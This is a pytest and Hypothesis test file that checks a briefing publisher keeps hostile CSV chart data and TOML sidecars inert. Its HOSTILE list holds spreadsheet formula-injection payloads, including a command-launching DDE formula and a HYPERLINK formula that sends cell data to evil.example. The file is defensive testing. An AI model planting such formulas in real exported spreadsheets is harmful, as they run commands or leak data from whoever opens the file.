"""Charts under attack: CSV data and its sidecar are someone else's files, read and drawn as such."""

from __future__ import annotations

import io
import re
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from lxml import etree
from pptx import Presentation

from briefpub import SourceError, parse
from briefpub.deck.slides import render_slides
from briefpub.errors import BriefpubError, Diagnostic
from briefpub.model.briefing import Briefing

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "http://evil.example/track",
    "mailto:a@evil.example",
    "1e5",
]
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _write_project(folder: Path, csv: str, options: str = "", source_extra: str = "") -> Path:
    (folder / "data").mkdir(parents=True, exist_ok=True)
    (folder / "briefpub.toml").write_text("", encoding="utf-8")
    (folder / "data" / "d.csv").write_text(csv, encoding="utf-8", newline="")
    if options:
        (folder / "data" / "d.toml").write_text(options, encoding="utf-8")
    source = folder / "t.txt"
    source.write_text(
        f"Title\n\nWhat?\n\nAnswer: This.\n\n![Data](data/d.csv){source_extra}\n", encoding="utf-8"
    )
    return source


def _briefing(folder: Path, csv: str, options: str = "") -> Briefing:
    source = _write_project(folder, csv, options)
    return parse(source, root=folder, file="t.txt")


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _cells(deck: bytes) -> list[tuple[str, str | None, str | None, bool, str]]:
    """Return each cell of every embedded workbook: reference, type, value, has a formula, its text."""
    found = []
    with zipfile.ZipFile(io.BytesIO(deck)) as package:
        for name in package.namelist():
            if not (name.startswith("ppt/embeddings/") and name.endswith(".xlsx")):
                continue
            with zipfile.ZipFile(io.BytesIO(package.read(name))) as book:
                names = book.namelist()
                assert not any("hyperlink" in n.lower() or "externalLink" in n for n in names), names
                shared: list[str] = []
                if "xl/sharedStrings.xml" in names:
                    strings = etree.fromstring(book.read("xl/sharedStrings.xml"))
                    shared = ["".join(si.itertext()) for si in strings.iter(f"{_MAIN}si")]
                sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
                assert sheet.find(f"{_MAIN}hyperlinks") is None
                for rels in (n for n in names if n.endswith(".rels") and "worksheets" in n):
                    assert b"hyperlink" not in book.read(rels)
                for cell in sheet.iter(f"{_MAIN}c"):
                    value = cell.findtext(f"{_MAIN}v")
                    kind = cell.get("t")
                    text = shared[int(value)] if kind == "s" and value is not None else ""
                    if kind == "inlineStr":
                        text = "".join(cell.find(f"{_MAIN}is").itertext())
                    has_formula = cell.find(f"{_MAIN}f") is not None
                    found.append((cell.get("r", ""), kind, value, has_formula, text))
    return found


def test_csv_text_is_stored_as_text_in_the_deck_workbook_never_a_formula_or_link(tmp_path: Path) -> None:
    header = ",".join(_quoted(h) for h in ["Label", *HOSTILE[:3]])
    rows = [f"{_quoted(name)},{n},{-n},{n * 1.5}" for n, name in enumerate(HOSTILE, 1)]
    briefing = _briefing(tmp_path, header + "\n" + "\n".join(rows) + "\n")
    cells = _cells(render_slides(briefing))
    assert cells
    texts = {}
    for reference, kind, value, has_formula, text in cells:
        assert not has_formula, reference
        column, row = re.fullmatch(r"([A-Z]+)(\d+)", reference).groups()  # type: ignore[union-attr]
        if column == "A" or row == "1":  # categories and series names: text, cell by cell
            assert kind in ("s", "inlineStr"), (reference, kind)
            texts[reference] = text
        else:  # values: numbers
            assert kind in (None, "n"), (reference, kind)
            assert value is not None
            float(value)
    assert [texts[f"A{n}"] for n in range(2, len(HOSTILE) + 2)] == HOSTILE
    assert [texts[f"{c}1"] for c in "BCD"] == HOSTILE[:3]


def _pdf_text(briefing: Briefing) -> str:
    from briefpub.newsletter.pdf import render_pdf

    pdf = render_pdf(briefing)
    return subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()


def test_chart_text_is_never_read_as_mathtext(tmp_path: Path) -> None:
    csv = 'Range,"$x^2$ cost",$y$\n$5 to $10,1,2\n"$\\frac{a$",2,3\n$\\alpha$,3,4\n'
    options = 'x_title = "From $1 to $2"\ny_title = "$\\\\sqrt{2}$ units"\n'
    briefing = _briefing(tmp_path, csv, options)
    text = _pdf_text(briefing)
    for label in ("$5 to $10", "$\\frac{a$", "$\\alpha$", "From $1 to $2", "$\\sqrt{2}$ units", "$x^2$ cost"):
        assert label in text, label
    assert "$y$" in text


def _refused(folder: Path, csv: str, options: str = "") -> list[str]:
    source = _write_project(folder, csv, options)
    with pytest.raises(SourceError) as refused:
        parse(source, root=folder, file="t.txt")
    return [f"{d.file}:{d.line}: {d.message}" for d in refused.value.diagnostics]


def test_a_missing_csv_is_reported_at_the_briefings_line(tmp_path: Path) -> None:
    source = _write_project(tmp_path, "a,b\nx,1\n")
    (tmp_path / "data" / "d.csv").unlink()
    with pytest.raises(SourceError) as refused:
        parse(source, root=tmp_path, file="t.txt")
    assert [str(d) for d in refused.value.diagnostics] == ["t.txt:7: chart data 'data/d.csv' does not exist"]


def test_a_mistyped_csv_name_gets_the_name_beside_it(tmp_path: Path) -> None:
    source = _write_project(tmp_path, "a,b\nx,1\n")
    (tmp_path / "data" / "d.csv").rename(tmp_path / "data" / "d1.csv")
    with pytest.raises(SourceError) as refused:
        parse(source, root=tmp_path, file="t.txt")
    assert [str(d) for d in refused.value.diagnostics] == [
        "t.txt:7: chart data 'data/d.csv' does not exist; did you mean 'data/d1.csv'?"
    ]


def test_a_sidecar_linked_from_outside_the_project_is_refused(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    secret = tmp_path / "secret.toml"
    secret.write_text('x_title = "the secret"\n', encoding="utf-8")
    source = _write_project(project, "a,b\nx,1\n")
    (project / "data" / "d.toml").symlink_to(secret)
    with pytest.raises(SourceError) as refused:
        parse(source, root=project, file="t.txt")
    [line] = [str(d) for d in refused.value.diagnostics]
    assert line == "t.txt:7: chart options 'data/d.toml' is outside the project folder (a link out of it?)"
    assert "secret" not in line


def test_deeply_nested_sidecar_toml_is_one_line(tmp_path: Path) -> None:
    for nested in ("x = " + "[" * 5000 + "]" * 5000 + "\n", "x = " + "{a=" * 5000 + "1" + "}" * 5000 + "\n"):
        [line] = _refused(tmp_path, "a,b\nx,1\n", nested)
        assert line == "data/d.toml:1: chart data: arrays or tables nested too deeply"


def test_control_characters_in_a_csv_are_dropped_with_a_warning_naming_its_line(tmp_path: Path) -> None:
    csv = 'Year,Out\x07put\n20\x0119,1\n"20\x1b[31m20",2\n2021,3\n'
    options = 'x_title = "Ye\\u0008ar"\nhighlight = "2019"\n'
    briefing = _briefing(tmp_path, csv, options)
    chart = briefing.charts()[0]
    assert chart.categories == ("2019", "20[31m20", "2021")
    assert chart.series[0].name == "Output"
    assert chart.x_title == "Year"
    warnings = [str(w) for w in briefing.warnings]
    assert "data/d.csv:1: chart data: dropped control characters (U+0007)" in warnings
    assert "data/d.csv:2: chart data: dropped control characters (U+0001)" in warnings
    assert "data/d.csv:3: chart data: dropped control characters (U+001B)" in warnings
    assert any(w.startswith("data/d.toml:1: chart data: x_title: dropped control") for w in warnings)
    deck = Presentation(io.BytesIO(render_slides(briefing)))  # it crashed on the control characters
    [drawn] = [shape.chart for slide in deck.slides for shape in slide.shapes if shape.has_chart]
    assert list(drawn.plots[0].categories) == ["2019", "20[31m20", "2021"]
    assert "2021" in _pdf_text(briefing)  # the chart is in the PDF


def test_a_nul_in_a_sidecar_title_is_dropped_and_the_chart_stays_in_the_pdf(tmp_path: Path) -> None:
    # TOML spells NUL "\u0000": it passed the sidecar's check, and WeasyPrint could not load the chart
    briefing = _briefing(tmp_path, "Year,Output\n2019,1\n2021,3\n", 'x_title = "Ye\\u0000ar"\n')
    assert briefing.charts()[0].x_title == "Year"
    warnings = [str(w) for w in briefing.warnings]
    assert any(w.startswith("data/d.toml:1: chart data: x_title: dropped control") for w in warnings)
    assert "2021" in _pdf_text(briefing)


def test_long_labels_are_shortened_with_a_warning(tmp_path: Path) -> None:
    from briefpub.reader.charts import MAX_LABEL

    name, label = "S" * 5000, "C" * 150
    csv = f"Label,{name},Two\nshort,1,2\n{label},3,4\n{'D' * 10_000},5,6\n"
    briefing = _briefing(tmp_path, csv, f'highlight = "{label}"\n')
    chart = briefing.charts()[0]
    assert [len(c) for c in chart.categories] == [5, MAX_LABEL, MAX_LABEL]
    assert chart.categories[1].endswith("…")
    assert chart.series[0].name == "S" * (MAX_LABEL - 1) + "…"
    assert chart.highlight == chart.categories[1]
    warnings = [str(w) for w in briefing.warnings]
    assert f"data/d.csv:1: chart data: names longer than {MAX_LABEL} characters are shortened" in warnings
    assert (
        f"data/d.csv:3: chart data: 2 labels longer than {MAX_LABEL} characters are shortened (from here)"
        in warnings
    )


def test_drawing_charts_has_a_deadline_and_says_so_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from briefpub import drawn_charts as charts
    from briefpub.errors import RenderError
    from briefpub.newsletter.pdf import render_pdf

    rows = "".join(f"{y},{y % 7},{y % 5}\n" for y in range(1900, 2000))
    briefing = _briefing(tmp_path, "Year,A,B\n" + rows)
    monkeypatch.setattr(charts, "DRAW_SECONDS", 1e-4)
    charts.drawn.cache_clear()
    with pytest.raises(RenderError) as refused:
        render_pdf(briefing)
    [line] = [str(d) for d in refused.value.diagnostics]
    said = r".*t\.txt:7: drawing the charts took longer than 0\.0001 s; chart 'data/d\.csv' was drawing"
    assert re.fullmatch(said, line), line


# --- generated hostile data through every edition ------------------------------------------

_HOSTILE_TEXT = st.one_of(
    st.sampled_from([*HOSTILE, "$5 to $10", "$\\frac{a$", "\t=1+1", "\r=2", "\x1b[2J", "x" * 300]),
    st.text(
        alphabet=st.one_of(
            st.sampled_from("=+-@\t\r\n\"',;$\\{}[]%<>&\x07\x0b\x1f\x7f\x85\u2028\u202e\ufffe"),
            st.characters(max_codepoint=0x2FFF, exclude_categories=["Cs"]),
        ),
        max_size=40,
    ),
)
_NUMBER = st.floats(allow_nan=False, allow_infinity=False, min_value=0, max_value=1e9).map(lambda v: f"{v:g}")
_VALUE = st.one_of(_NUMBER, st.sampled_from(["", "12%", "1e15", "1,234.5"]))
_OPTION = st.fixed_dictionaries(
    {},
    optional={
        "type": st.sampled_from(["column", "bar", "line", "stacked-column", "stacked-bar", "pie"]),
        "x_title": _HOSTILE_TEXT,
        "y_title": _HOSTILE_TEXT,
        "number_format": st.sampled_from(["0", "0.0%", "#,##0", "#,##0.00"]),
    },
)


def _toml(options: dict[str, str]) -> str:
    def quoted(value: str) -> str:
        escaped = "".join(c if c.isprintable() and c not in '"\\' else f"\\u{ord(c):04x}" for c in value)
        return f'"{escaped}"'

    return "".join(f"{key} = {quoted(value)}\n" for key, value in options.items())


@settings(max_examples=6, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    names=st.lists(_HOSTILE_TEXT, min_size=2, max_size=4),
    labels=st.lists(_HOSTILE_TEXT, min_size=1, max_size=5),
    values=st.lists(_VALUE, min_size=20, max_size=20),
    options=_OPTION,
    sidecar=st.sampled_from(["options", "options", "options", "highlight a label", "text", "nested"]),
    text=st.text(max_size=40),
)
def test_hostile_chart_data_publishes_in_every_edition_or_is_refused_in_one_line(
    names: list[str], labels: list[str], values: list[str], options: dict[str, str], sidecar: str, text: str
) -> None:
    from briefpub.newsletter.mail import render_eml
    from briefpub.newsletter.page import render_html
    from briefpub.newsletter.pdf import render_pdf

    width = len(names) - 1
    rows = [[label, *(values[(r * 4 + c) % 20] for c in range(width))] for r, label in enumerate(labels)]
    csv = "\n".join(",".join(_quoted(cell) for cell in row) for row in [names, *rows]) + "\n"
    if sidecar == "highlight a label":
        options["highlight"] = labels[0].strip()
    written = {"text": text, "nested": "x = " + "[" * 3000}.get(sidecar, _toml(options))
    with tempfile.TemporaryDirectory() as folder:
        source = _write_project(Path(folder), csv, written)
        briefing, refusal = _attempt(lambda: parse(source, root=Path(folder), file="t.txt"))
        assert all("\n" not in str(d) and d.message for d in refusal)
        if not isinstance(briefing, Briefing):
            event("refused when read")
            return
        event("published")
        assert briefing.charts()
        for render in (render_pdf, render_html, render_eml, render_slides):
            made, refusal = _attempt(lambda: render(briefing))  # noqa: B023
            assert all("\n" not in str(d) for d in refusal)  # a refusal is one line each, never a traceback
            if isinstance(made, bytes) and render is render_slides:
                assert not any(has_formula for *_, has_formula, _ in _cells(made))


def _attempt(work: Callable[[], object]) -> tuple[object, tuple[Diagnostic, ...]]:
    """Return what ``work`` makes and no diagnostics, or None and the diagnostics of its refusal."""
    try:
        return work(), ()
    except BriefpubError as refused:
        return None, refused.diagnostics


def test_a_sidecar_cut_short_is_named_at_its_last_line(tmp_path: Path) -> None:
    assert _refused(tmp_path, "a,b\nx,1\n", 'type = "line"\nx_title = "unclosed\n') == [
        "data/d.toml:2: chart data: not TOML: Illegal character '\\n'"
    ]
    assert _refused(tmp_path, "a,b\nx,1\n", 'type = "line"\nx_title = [1,\n') == [
        "data/d.toml:2: chart data: not TOML: Invalid value"
    ]


@pytest.mark.parametrize("chart_type", ["line", "column"])
def test_series_named_as_matplotlib_hides_labels_keep_their_legend(tmp_path: Path, chart_type: str) -> None:
    csv = "Year,_hidden,_nolegend_\n2021,1,2\n2022,2,3\n"
    briefing = _briefing(tmp_path, csv, f'type = "{chart_type}"\n')
    text = _pdf_text(briefing)
    assert "_hidden" in text
    assert "_nolegend_" in text
